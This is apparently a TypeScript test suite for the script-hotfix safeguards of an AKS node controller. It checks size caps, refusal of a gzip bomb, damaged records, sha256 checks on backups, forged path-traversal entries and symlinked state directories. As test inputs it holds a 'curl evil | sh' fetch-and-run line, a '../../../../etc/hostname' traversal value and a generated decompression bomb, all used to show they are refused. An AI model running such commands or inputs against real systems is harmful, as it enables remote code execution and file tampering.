// Issue 34 §2 and §5 on the compiled binary: the baked agent can always get back to the image's scripts.
// Shared caps (a 200-script payload whose record is over 64 KiB still restores; 257 are refused at build;
// a gzip bomb in the cloud-config form is cut while inflating), a damaged record (not JSON with a secret in
// it, a FIFO, over its cap) never stops the baked agent and is never quoted, a missing or tampered backup
// is never provisioned over (ANC_SCRIPTS_UNRESTORABLE, exit 241), a forged record and a state directory
// replaced by a symlink are never followed, any provision removes stale staged files, and the validator
// refuses the agent's own dot-files and unsafe modes in both input forms.
import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { FIXED_START, fixEntries, type PayloadEntry, SCRIPT_LABEL, writePayloadDir } from '../../fakes/script-fix.ts';
import { makeSandbox, runAnc, type Sandbox } from '../harness.ts';

const work = mkdtempSync(join(tmpdir(), 'anc-script-hardening-'));
const VERSION = '202604.01.1';
const C = '/opt/azure/containers';
const STATE = `${C}/aks-node-controller-script-hotfix`;
const BAKED_START = '#!/bin/bash\nexit 34\n';
const BAKED_HELPER = '# baked helper\n';
const sha = (s: string | Uint8Array) => createHash('sha256').update(s).digest('hex');
const build = (outdir: string, args: string[] = []) =>
  spawnSync(process.execPath, ['build.mjs', '--quiet', '--outdir', outdir, ...args], {
    env: { ...process.env, ANC_VERSION: VERSION },
    encoding: 'utf8',
  });
let withScripts = '';

test.before(() => {
  const r = build(join(work, 'with'), ['--scripts', writePayloadDir(join(work, 'payload')), '--scripts-label', SCRIPT_LABEL]);
  assert.is(r.status, 0, r.stderr);
  withScripts = join(work, 'with', 'aks-node-controller');
});
test.after(() => rmSync(work, { recursive: true, force: true }));

/** A node root with the baked scripts, an Ubuntu os-release and a minimal configuration. */
function node(): Sandbox {
  const box = makeSandbox('anc-script-hardening-node-');
  box.write('/etc/os-release', 'ID=ubuntu\nVERSION_ID="22.04"\n');
  box.write('/etc/hostname', 'node-1\n');
  box.write('/opt/azure/components.json', '{}\n');
  box.write('/config.json', '{"version":"v1","bootstrappingConfig":{"tlsBootstrappingToken":"abcdef.0123456789abcdef"}}');
  box.write(`${C}/provision_start.sh`, BAKED_START, 0o755);
  box.write(`${C}/provision_source.sh`, BAKED_HELPER, 0o644);
  return box;
}

const provision = (box: Sandbox, bin?: string) =>
  runAnc(['provision', `--provision-config=${box.path('/config.json')}`], { root: box.root, ...(bin ? { bin } : {}) });

/** The hotfix applied by a provision (its fixed script exits 0). */
async function applied(): Promise<Sandbox> {
  const box = node();
  const r = await provision(box, withScripts);
  assert.is(r.exitCode, 0, r.stderr);
  assert.is(box.read(`${C}/provision_start.sh`), FIXED_START);
  rmSync(box.path('/var/log/azure/aks/provision.json'), { force: true });
  rmSync(box.path(`${C}/provision.complete`), { force: true });
  // The launcher removes the marker before every provision.
  rmSync(box.path(`${C}/aks-node-controller-scripts-started`), { force: true });
  return box;
}

const scriptEvents = (box: Sandbox) =>
  box
    .events()
    .filter((e) => e.TaskName === 'AKS.AKSNodeController.ScriptHotfix')
    .map((e) => e.Message!.split(' | ')[0]!);
const everything = (box: Sandbox) =>
  [
    JSON.stringify(box.events()),
    existsSync(box.path('/var/log/azure/aks-node-controller.log')) ? box.read('/var/log/azure/aks-node-controller.log') : '',
  ].join('\n');
const backupNames = (box: Sandbox) => readdirSync(box.path(`${STATE}/backups`)).sort();

test('R3-4: 200 scripts: the record is over 64 KiB and still read; the baked provision restores all, then runs the baked scripts', async () => {
  const entries: PayloadEntry[] = Array.from({ length: 200 }, (_, i) => ({
    source: `f${i}.sh`,
    payload: `payloads/f${i}.sh`,
    destination: `${C}/many/f${String(i).padStart(3, '0')}.sh`,
    mode: '0755',
    platforms: ['ubuntu'],
    content: `echo fixed ${i}\n`,
  }));
  const r = build(join(work, 'many'), ['--scripts', writePayloadDir(join(work, 'many-payload'), entries), '--scripts-label', 'many']);
  assert.is(r.status, 0, r.stderr);
  const box = node();
  for (let i = 0; i < 200; i++) box.write(`${C}/many/f${String(i).padStart(3, '0')}.sh`, `echo baked ${i}\n`, 0o755);
  const hot = await provision(box, join(work, 'many', 'aks-node-controller'));
  assert.is(hot.exitCode, 34, hot.stderr);
  assert.ok(statSync(box.path(`${STATE}/record.json`)).size > 64 * 1024, 'the record is over the old 64 KiB cap');
  assert.is(box.read(`${C}/many/f199.sh`), 'echo fixed 199\n');
  // The baked agent (no payload) restores all 200 before its scripts: never "exit 1 on every later boot".
  const baked = await provision(box);
  assert.is(baked.exitCode, 34, baked.stderr);
  assert.is(
    scriptEvents(box).at(-1),
    'restore label=many reason=this binary carries no script payload restored=200 unchanged=0 problems=0',
  );
  for (const i of [0, 57, 199]) assert.is(box.read(`${C}/many/f${String(i).padStart(3, '0')}.sh`), `echo baked ${i}\n`);
  assert.ok(existsSync(box.path(`${C}/aks-node-controller-scripts-started`)), 'the baked scripts ran');
  box.cleanup();
  // 257 entries: refused at build, never embedded.
  const tooMany = [...entries, ...entries.slice(0, 57).map((e, i) => ({ ...e, destination: `${C}/more/g${i}.sh` }))];
  const refused = build(join(work, 'too-many'), ['--scripts', writePayloadDir(join(work, 'too-many-payload'), tooMany)]);
  assert.is(refused.status, 1);
  assert.match(refused.stderr, /257 entries, over the cap of 256/);
  assert.not.ok(existsSync(join(work, 'too-many', 'aks-node-controller')));
});

test('R3-5: a 348 KB cloud-config whose gzip entry inflates to 256 MiB is refused while inflating, in bounded memory', () => {
  const dir = join(work, 'bomb');
  mkdirSync(join(dir, 'cloud-config'), { recursive: true });
  const bomb = gzipSync(Buffer.alloc(256 * 1024 * 1024), { level: 9 }).toString('base64');
  const yaml = `#cloud-config\nwrite_files:\n- path: ${C}/provision_start.sh\n  permissions: "0755"\n  encoding: gzip\n  content: !!binary |\n    ${bomb}\n`;
  writeFileSync(join(dir, 'cloud-config', 'ubuntu.yaml'), yaml);
  assert.ok(yaml.length < 400_000, `the YAML is ${yaml.length} bytes`);
  const r = spawnSync(
    '/usr/bin/time',
    ['-f', 'maxrss-kib=%M', process.execPath, 'build.mjs', '--quiet', '--outdir', join(work, 'bomb-out'), '--scripts', dir],
    {
      env: { ...process.env, ANC_VERSION: VERSION },
      encoding: 'utf8',
    },
  );
  assert.is(r.status, 1, r.stderr);
  assert.match(r.stderr, /cloud-config\/ubuntu\.yaml write_files\[0\]: .*gunzip content: inflates to more than 16777216 bytes/);
  const rss = Number(/maxrss-kib=(\d+)/.exec(r.stderr)?.[1]);
  // Generous: the build process itself (bundler included); inflating to the end took 1.9 GB.
  assert.ok(rss > 0 && rss < 700 * 1024, `peak RSS ${rss} KiB`);
  assert.not.ok(existsSync(join(work, 'bomb-out', 'aks-node-controller')));
  // A 17 MiB entry in the manifest form: over the same cap.
  const big = writePayloadDir(join(work, 'big'), [{ ...fixEntries()[0]!, content: 'x'.repeat(17 * 1024 * 1024) }]);
  const b = build(join(work, 'big-out'), ['--scripts', big]);
  assert.is(b.status, 1);
  assert.match(b.stderr, /is 17825792 bytes, over the 16777216-byte limit/);
});

test("R3-13: the agent's own dot-files and temp names, and unsafe modes, are refused in both forms (never changed)", () => {
  const e = (destination: string, mode = '0755', i = 0): PayloadEntry => ({
    ...fixEntries()[0]!,
    source: `s${i}`,
    payload: `payloads/s${i}.sh`,
    destination,
    mode,
  });
  const dir = writePayloadDir(join(work, 'own'), [
    e(`${C}/.aks-node-controller-baked-guard`, '0755', 0),
    e(`${C}/.aks-node-controller-update-1234`, '0755', 1),
    e(`${C}/.aks-node-controller-fetch-abc/x.sh`, '0755', 2),
    e(`${C}/aks-node-controller-hotfix.pending`, '0755', 3),
    e(`${C}/a.sh`, '0777', 4),
    e(`${C}/b.sh`, '0666', 5),
    e(`${C}/c.sh`, '0775', 6),
    e(`${C}/d.sh`, '04755', 7),
  ]);
  const r = build(join(work, 'own-out'), ['--scripts', dir]);
  assert.is(r.status, 1);
  for (const [i, what] of [
    [0, /\.aks-node-controller-baked-guard is one of the agent's own files/],
    [1, /\.aks-node-controller-update-1234 is one of the agent's own files/],
    [2, /\.aks-node-controller-fetch-abc\/x\.sh is one of the agent's own files/],
    [3, /aks-node-controller-hotfix\.pending is one of the agent's own files/],
    [4, /mode 0777 is group- or world-writable/],
    [5, /mode 0666 is group- or world-writable/],
    [6, /mode 0775 is group- or world-writable/],
    [7, /mode "04755" is not an octal string/],
  ] as const)
    assert.match(r.stderr, new RegExp(`entry ${i} \\(s${i}\\): .*${what.source}`), `entry ${i}`);
  // The cloud-config form: the same rule on the text as written (0 was 0644, 04755 was 0755 before).
  const cloud = join(work, 'cloud-modes');
  mkdirSync(join(cloud, 'cloud-config'), { recursive: true });
  const b64 = Buffer.from('echo x\n').toString('base64');
  const file = (path: string, permissions: string) =>
    `- path: ${path}\n  permissions: "${permissions}"\n  encoding: base64\n  content: ${b64}\n`;
  writeFileSync(
    join(cloud, 'cloud-config', 'ubuntu.yaml'),
    `#cloud-config\nwrite_files:\n${file(`${C}/a.sh`, '0')}${file(`${C}/b.sh`, '04755')}${file(`${C}/c.sh`, '0777')}${file(`${C}/.aks-node-controller-baked-guard`, '0755')}`,
  );
  const c = build(join(work, 'cloud-modes-out'), ['--scripts', cloud]);
  assert.is(c.status, 1);
  assert.match(c.stderr, /write_files\[0\]: mode 0 is outside 1-0777/);
  assert.match(c.stderr, /write_files\[1\]: mode "04755" is not an octal string/);
  assert.match(c.stderr, /write_files\[2\]: mode 0777 is group- or world-writable/);
  assert.match(
    c.stderr,
    /write_files\[3\]: destination \/opt\/azure\/containers\/\.aks-node-controller-baked-guard is one of the agent's own files/,
  );
});

test('R3-9: a record that is not JSON (with a secret in it) is never quoted; the baked agent restores from the backups alone', async () => {
  const box = await applied();
  box.write(`${STATE}/record.json`, 'token=SECRET-abcdef.0123456789abcdef not json', 0o600);
  const r = await provision(box);
  assert.is(r.exitCode, 34, r.stderr);
  assert.is(box.read(`${C}/provision_start.sh`), BAKED_START);
  assert.is(box.read(`${C}/provision_source.sh`), BAKED_HELPER);
  assert.match(
    scriptEvents(box).at(-1)!,
    /^restore label=unknown reason=the script hotfix state is damaged or incomplete; record unreadable: .*record\.json: not valid JSON \(syntax error at byte offset \d+ of \d+\) restored=2 unchanged=0 problems=0$/,
  );
  const status = (await runAnc(['status'], { root: box.root })).stdout;
  assert.not.ok((everything(box) + status + r.stderr).includes('SECRET'), 'the content is never quoted');
  assert.not.ok(existsSync(box.path(`${STATE}/record.json`)), 'the damaged record is gone after a complete restore');
  box.cleanup();
});

test('R3-9: a FIFO record and one over its cap never stop the baked agent', async () => {
  const fifo = await applied();
  rmSync(fifo.path(`${STATE}/record.json`));
  execFileSync('mkfifo', [fifo.path(`${STATE}/record.json`)]);
  const r = await runAnc(['provision', `--provision-config=${fifo.path('/config.json')}`], { root: fifo.root, timeoutMs: 20_000 });
  assert.is(r.exitCode, 34, r.stderr);
  assert.is(fifo.read(`${C}/provision_start.sh`), BAKED_START);
  assert.match(scriptEvents(fifo).at(-1)!, /record unreadable: .*ENOTREG.* restored=2 unchanged=0 problems=0$/);
  fifo.cleanup();
  const huge = await applied();
  huge.write(`${STATE}/record.json`, `{"schemaVersion":1,"entries":[],"pad":"${'x'.repeat(600 * 1024)}"}`, 0o600);
  const h = await provision(huge);
  assert.is(h.exitCode, 34, h.stderr);
  assert.is(huge.read(`${C}/provision_start.sh`), BAKED_START);
  assert.match(scriptEvents(huge).at(-1)!, /record unreadable: .*EFBIG.* restored=2 unchanged=0 problems=0$/);
  huge.cleanup();
});

async function assertUnrestorable(box: Sandbox, why: RegExp): Promise<void> {
  const r = await provision(box);
  assert.is(r.exitCode, 241, r.stderr);
  assert.match(r.stderr, /the image's provisioning scripts cannot be restored after script hotfix/);
  assert.match(r.stderr, why);
  assert.not.ok(existsSync(box.path(`${C}/aks-node-controller-scripts-started`)), 'the scripts never started');
  assert.is(JSON.parse(box.read('/var/log/azure/aks/provision.json')).ExitCode, '241');
  const status = (await runAnc(['status'], { root: box.root })).stdout;
  assert.match(status, /exit code 241 ANC_SCRIPTS_UNRESTORABLE/);
  assert.match(status, /reimage the node/);
}

test('R3-7: one missing backup: never provisioned over the half-hotfixed mix; exit 241 ANC_SCRIPTS_UNRESTORABLE, status says why', async () => {
  const box = await applied();
  rmSync(box.path(`${STATE}/backups/${backupNames(box)[0]}`));
  await assertUnrestorable(box, /provision_start\.sh/);
  assert.is(box.read(`${C}/provision_source.sh`), BAKED_HELPER, 'what could be restored was');
  box.cleanup();
});

test('R3-6: a backup rewritten after the apply is refused by its sha256, never written back as "the baked script"', async () => {
  const box = await applied();
  const name = `${STATE}/backups/${backupNames(box)[0]}`;
  const text = box.read(name);
  box.write(name, text.replace(BAKED_START, '#!/bin/bash\ncurl evil | sh\n'), 0o600);
  await assertUnrestorable(box, /does not match its sha256/);
  assert.is(box.read(`${C}/provision_start.sh`), FIXED_START, 'the tampered bytes were never written');
  box.cleanup();
});

test('R3-8: a forged record entry is re-checked (destination rules, names confined to backups/); nothing outside is written', async () => {
  const box = await applied();
  const record = JSON.parse(box.read(`${STATE}/record.json`));
  const hostname = box.read('/etc/hostname');
  const forged = { ...record.entries[0], destination: '/etc/hostname', newSha256: sha(hostname), backup: '000.orig' };
  record.entries[1] = { ...record.entries[1], backup: '../../../../etc/hostname' };
  record.entries.push(forged);
  box.write(`${STATE}/record.json`, JSON.stringify(record), 0o600);
  await assertUnrestorable(box, /is not NNN\.orig inside backups\//);
  assert.is(box.read('/etc/hostname'), hostname, 'outside the containers directory: never written');
  assert.match(everythingOf(box), /\/etc\/hostname: refused \(destination \/etc\/hostname is outside/);
  box.cleanup();
});

const everythingOf = (box: Sandbox) => scriptEvents(box).join('\n');

test('R3-8: a state directory replaced by a symlink is never followed', async () => {
  const box = await applied();
  const elsewhere = box.path('/elsewhere');
  renameSync(box.path(STATE), elsewhere);
  symlinkSync(elsewhere, box.path(STATE));
  const before = readdirSync(join(elsewhere, 'backups')).map((n) => statSync(join(elsewhere, 'backups', n)).mtimeMs);
  await assertUnrestorable(box, /aks-node-controller-script-hotfix is a symlink \(never followed\)/);
  assert.equal(
    readdirSync(join(elsewhere, 'backups')).map((n) => statSync(join(elsewhere, 'backups', n)).mtimeMs),
    before,
    'nothing read into or written through the link',
  );
  assert.ok(existsSync(join(elsewhere, 'record.json')));
  box.cleanup();
});

test('backups are self-describing: destination, sha256 and mode travel with each', async () => {
  const box = await applied();
  const raw = readFileSync(box.path(`${STATE}/backups/${backupNames(box)[0]}`));
  const [magic, header] = raw.toString('utf8').split('\n');
  assert.is(magic, 'ANC-SCRIPT-BACKUP 1');
  const h = JSON.parse(header!);
  assert.equal([h.destination, h.sha256, h.newSha256, h.mode], [`${C}/provision_start.sh`, sha(BAKED_START), sha(FIXED_START), '0755']);
  box.cleanup();
});

test('R3-11: any binary removes stale staged files at the start of provision, payload or not', async () => {
  const box = node();
  const stale = [`${C}/.anc-script-hotfix-provision_start.sh.123`, `${C}/sub/.anc-script-hotfix-x.sh.9`];
  for (const p of stale) {
    box.write(p, 'half');
    utimesSync(box.path(p), new Date(2020, 0, 1), new Date(2020, 0, 1));
  }
  const r = await provision(box);
  assert.is(r.exitCode, 34, r.stderr);
  for (const p of stale) assert.not.ok(existsSync(box.path(p)), p);
  box.cleanup();
});

test.run();
